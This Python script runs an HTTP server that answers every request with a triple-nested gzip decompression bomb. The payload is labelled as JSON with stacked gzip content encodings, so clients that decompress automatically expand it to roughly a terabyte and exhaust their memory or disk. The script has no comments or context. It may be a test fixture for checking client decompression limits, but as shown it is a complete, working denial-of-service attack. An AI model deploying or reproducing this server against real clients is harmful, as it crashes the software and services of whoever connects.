import gzip
import os
import socket
import threading

BOMB = gzip.compress(gzip.compress(gzip.compress(b" " * (1 << 20)) * 5000) * 200)
listener = socket.create_server(("", int(os.environ["PORT"])))


def serve(connection):
    connection.recv(65536)
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
    connection.sendall(b"Content-Encoding: gzip, gzip, gzip\r\n")
    connection.sendall(b"Content-Length: %d\r\n\r\n" % len(BOMB) + BOMB)
    connection.close()


while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
